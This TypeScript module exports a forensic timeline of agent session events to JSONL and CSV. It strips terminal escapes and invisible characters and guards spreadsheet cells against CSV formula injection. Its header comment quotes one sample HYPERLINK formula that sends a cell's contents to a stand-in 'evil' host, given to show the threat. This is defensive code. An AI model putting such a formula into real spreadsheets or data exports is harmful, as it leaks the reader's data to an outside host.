/**
 * The case timeline as files other tools read: `timeline.jsonl` (Timesketch's JSONL import:
 * `message`, `datetime`, `timestamp_desc`, plus any flat fields) and `timeline.csv` (the same
 * columns, RFC 4180, for spreadsheets). Both are written by DuckDB's `COPY`, so a case with
 * millions of events is exported without a JavaScript step per row.
 *
 * Text is neutralized in SQL the way `cleanText` does it in TypeScript: ANSI escapes, C0/C1
 * controls (but tab and newline), bidi overrides and invisible format characters are removed, so
 * `cat`, `less` or `jq -r` on these files cannot drive a terminal. Newlines stay: JSON escapes
 * them and CSV quotes the field (RFC 4180), so every event is still exactly one record.
 *
 * CSV only, formula guard: a spreadsheet (Excel, LibreOffice, Google Sheets) evaluates a cell that
 * starts with `=`, `+`, `-` or `@` as a formula, and tab/CR can smuggle one in past that first
 * character. A logged message such as `=HYPERLINK("http://evil/?"&A1,"click")` or a DDE payload
 * would then run or exfiltrate on the investigator's machine ("CSV injection", OWASP). Such cells
 * get a leading `'`, which spreadsheets treat as "this is text" and do not display. The JSONL
 * keeps the exact text: it is read by Timesketch and jq, not evaluated as formulas.
 */
import { randomBytes } from "node:crypto";
import { rename, rm } from "node:fs/promises";
import { join, resolve } from "node:path";
import type { DuckDBConnection } from "@duckdb/node-api";
import { ANSI_PATTERN, CONTROL_PATTERN } from "@oclog/schema";

export const TIMELINE_JSONL = "timeline.jsonl";
export const TIMELINE_CSV = "timeline.csv";

/** The `timestamp_desc` of every row: the time the event happened, as its source recorded it. */
export const TIMESTAMP_DESC = "Event Time";

/** Columns of both files, in order. */
export const TIMELINE_COLUMNS = [
  "message",
  "datetime",
  "timestamp",
  "timestamp_desc",
  "source",
  "subsystem",
  "level",
  "category",
  "action",
  "outcome",
  "tool",
  "tool_call_id",
  "tool_arguments",
  "target_path",
  "target_url",
  "target_host",
  "target_command",
  "user",
  "host",
  "session_id",
  "run_id",
  "agent_id",
  // The session step the event is (session-steps.ts): its number, and `<session_id>#<step_no>`,
  // so Timesketch can filter one step's records (the call, its result, its transcript line).
  "session_step",
  "step_id",
  "raw_ref",
  "blob",
  "line",
  // Envelope checks (envelope-checks.ts): why the envelope names another user, the seconds from
  // the record's stamp to its blob's upload, and why an event outside --since/--until is here.
  "envelope_mismatch",
  "stamp_skew_s",
  "window_note",
] as const;

/** A JavaScript regex source as RE2 syntax (`\uXXXX` is `\x{XXXX}` there). */
const re2 = (pattern: RegExp) => pattern.source.replace(/\\u([0-9a-fA-F]{4})/g, "\\x{$1}");
const literal = (text: string) => `'${text.replace(/'/g, "''")}'`;

const LINE_BREAKS = literal("\\r\\n|[\\r\\x{2028}\\x{2029}\\x{85}]");
const ANSI = literal(re2(ANSI_PATTERN));
const CONTROLS = literal(re2(CONTROL_PATTERN));
const INVISIBLE = literal("[\\x{061c}\\x{200b}-\\x{200f}\\x{202a}-\\x{202e}\\x{2060}-\\x{2069}\\x{feff}]");
/** Cells a spreadsheet would read as a formula. */
const FORMULA_START = literal("^[=+\\-@\\t\\r]");

/** Any character one of the patterns above removes or rewrites: the fast path skips clean text. */
const NEEDS_CLEANING = literal(
  "[\\x{00}-\\x{08}\\x{0b}-\\x{1f}\\x{7f}-\\x{9f}\\x{2028}\\x{2029}\\x{061c}\\x{200b}-\\x{200f}\\x{202a}-\\x{202e}\\x{2060}-\\x{2069}\\x{feff}]",
);

/** SQL: a text expression with escapes, controls and invisible characters removed (as `cleanText`). */
export function cleanSql(expression: string): string {
  const text = `CAST(${expression} AS VARCHAR)`;
  const breaks = `regexp_replace(${text}, ${LINE_BREAKS}, chr(10), 'g')`;
  const clean = `regexp_replace(regexp_replace(regexp_replace(${breaks}, ${ANSI}, '', 'g'), ${CONTROLS}, '', 'g'), ${INVISIBLE}, '', 'g')`;
  // Most values are clean: one scan decides, the four rewrites run only on the rest.
  return `CASE WHEN regexp_matches(${text}, ${NEEDS_CLEANING}) THEN ${clean} ELSE ${text} END`;
}

/** SQL: a text expression made inert for spreadsheets (leading `'` before a formula start). */
export function formulaGuardSql(expression: string): string {
  return `CASE WHEN regexp_matches(${expression}, ${FORMULA_START}) THEN '''' || ${expression} ELSE ${expression} END`;
}

/** The text columns and their source expressions in the events table. */
const TEXT_COLUMNS: ReadonlyArray<[name: string, expression: string]> = [
  ["message", "coalesce(nullif(message, ''), action)"],
  ["source", "source"],
  ["subsystem", "subsystem"],
  ["level", "level"],
  ["category", "category"],
  ["action", "action"],
  ["outcome", "outcome"],
  ["tool", "gen_ai.tool.name"],
  ["tool_call_id", "gen_ai.tool.call.id"],
  ["tool_arguments", "gen_ai.tool.call.arguments"],
  ["target_path", "target.path"],
  ["target_url", "target.url"],
  ["target_host", "target.host"],
  ["target_command", "target.command"],
  ["user", '"user"'],
  ["host", "host"],
  ["session_id", "session_id"],
  ["run_id", "run_id"],
  ["agent_id", "agent_id"],
  ["step_id", "CASE WHEN session_step IS NOT NULL THEN step_session || '#' || session_step END"],
  ["raw_ref", "raw.ref"],
  ["blob", "blob"],
  ["envelope_mismatch", "envelope_mismatch"],
  ["window_note", "window_note"],
];

const quoted = (name: string) => `"${name.replace(/"/g, '""')}"`;

/**
 * SQL: the events, each with the session step it is (`step_session`, `session_step`), NULL when
 * none. A step's own record matches on blob and line, and on the call id too: one assistant line
 * holds several tool calls, each its own step. A tool result is on another line; it gets the step
 * of its call, by call id within the same session, user and host.
 */
function eventsWithStepsSql(table: string, stepsTable: string | null): string {
  if (stepsTable === null) return `SELECT *, NULL::VARCHAR AS step_session, NULL::BIGINT AS session_step FROM ${quoted(table)}`;
  const steps = quoted(stepsTable);
  return `SELECT e.*, coalesce(l.session_id, c.session_id) AS step_session, coalesce(l.step_no, c.step_no) AS session_step
FROM ${quoted(table)} e
LEFT JOIN (SELECT blob, line, call_id, arg_min(session_id, step_no) AS session_id, min(step_no) AS step_no FROM ${steps} GROUP BY ALL) l
  ON l.blob = e.blob AND l.line = e.line AND l.call_id IS NOT DISTINCT FROM e.gen_ai.tool.call.id
LEFT JOIN (SELECT "user", host, session_id, call_id, min(step_no) AS step_no FROM ${steps} WHERE kind = 'tool' AND call_id IS NOT NULL GROUP BY ALL) c
  ON l.step_no IS NULL AND e.action = 'tool.result' AND c.call_id = e.gen_ai.tool.call.id AND c.session_id = e.session_id
  AND c."user" IS NOT DISTINCT FROM e."user" AND c.host IS NOT DISTINCT FROM e.host`;
}

/**
 * The SELECT both files are written from; `forSpreadsheet` adds the formula guard. `stepsTable`
 * names the case's `session_steps` (null for a case without one: the step columns are then empty).
 */
export function timelineSelectSql(table = "events", forSpreadsheet = false, stepsTable: string | null = null): string {
  const text = new Map(
    TEXT_COLUMNS.map(([name, expression]) => {
      const clean = cleanSql(expression);
      return [name, forSpreadsheet ? formulaGuardSql(clean) : clean];
    }),
  );
  const computed: Record<string, string> = {
    // Timesketch's documented form: ISO 8601 with an explicit UTC offset. make_timestamp() works
    // on epoch microseconds, so the session's TimeZone setting cannot shift it.
    datetime: `strftime(make_timestamp(epoch_us(time)), '%Y-%m-%dT%H:%M:%S.%f+00:00')`,
    timestamp: "epoch_us(time)",
    timestamp_desc: literal(TIMESTAMP_DESC),
    line: "line",
    session_step: "session_step",
    stamp_skew_s: "stamp_skew_s",
  };
  const select = TIMELINE_COLUMNS.map((name) => `${text.get(name) ?? computed[name]} AS "${name}"`);
  return `SELECT ${select.join(",\n  ")}\nFROM (${eventsWithStepsSql(table, stepsTable)}) AS timeline_events\nORDER BY time, blob, line`;
}

export interface TimelineFiles {
  jsonl: string;
  csv: string;
  /** Rows written to each file (one per event). */
  rows: number;
}

async function copyTo(connection: DuckDBConnection, select: string, path: string, options: string): Promise<number> {
  const temp = `${path}.tmp-${process.pid}-${randomBytes(4).toString("hex")}`;
  try {
    const result = await connection.runAndReadAll(`COPY (${select}) TO ${literal(temp)} (${options})`);
    await rename(temp, path);
    return Number(result.getRows()[0]?.[0] ?? 0);
  } catch (error) {
    await rm(temp, { force: true });
    throw error;
  }
}

/** The spreadsheet's SELECT over the cleaned rows: the formula guard on every text column. */
function spreadsheetSelectSql(rowsTable: string): string {
  const text = new Set(TEXT_COLUMNS.map(([name]) => name));
  const columns = TIMELINE_COLUMNS.map((name) => (text.has(name) ? `${formulaGuardSql(quoted(name))} AS ${quoted(name)}` : quoted(name)));
  return `SELECT ${columns.join(", ")} FROM ${quoted(rowsTable)}`;
}

/** Writes `timeline.jsonl` and `timeline.csv` into `caseDir` (each written, then renamed into place). */
export async function exportTimeline(connection: DuckDBConnection, caseDir: string, table = "events"): Promise<TimelineFiles> {
  const dir = resolve(caseDir);
  const jsonl = join(dir, TIMELINE_JSONL);
  const csv = join(dir, TIMELINE_CSV);
  // A case loaded before sessions were case data has no session_steps: the step columns stay empty.
  const exists = await connection.runAndReadAll("SELECT count(*) FROM duckdb_tables() WHERE table_name = 'session_steps'");
  const steps = Number(exists.getRows()[0]?.[0] ?? 0) > 0 ? "session_steps" : null;
  // Cleaned, joined to the steps and sorted once; both files are copied from it in that order
  // (each file computing it again took 2.3 s and 1.8 s for 256 MB of logs).
  // Its own name: two exports may share a connection (one case, two report writers).
  const rowsTable = `timeline_rows_${randomBytes(6).toString("hex")}`;
  await connection.run(`CREATE TEMP TABLE ${quoted(rowsTable)} AS ${timelineSelectSql(table, false, steps)}`);
  try {
    const rows = await copyTo(connection, `SELECT * FROM ${quoted(rowsTable)}`, jsonl, "FORMAT json");
    await copyTo(connection, spreadsheetSelectSql(rowsTable), csv, "FORMAT csv, HEADER");
    return { jsonl, csv, rows };
  } finally {
    await connection.run(`DROP TABLE IF EXISTS ${quoted(rowsTable)}`);
  }
}
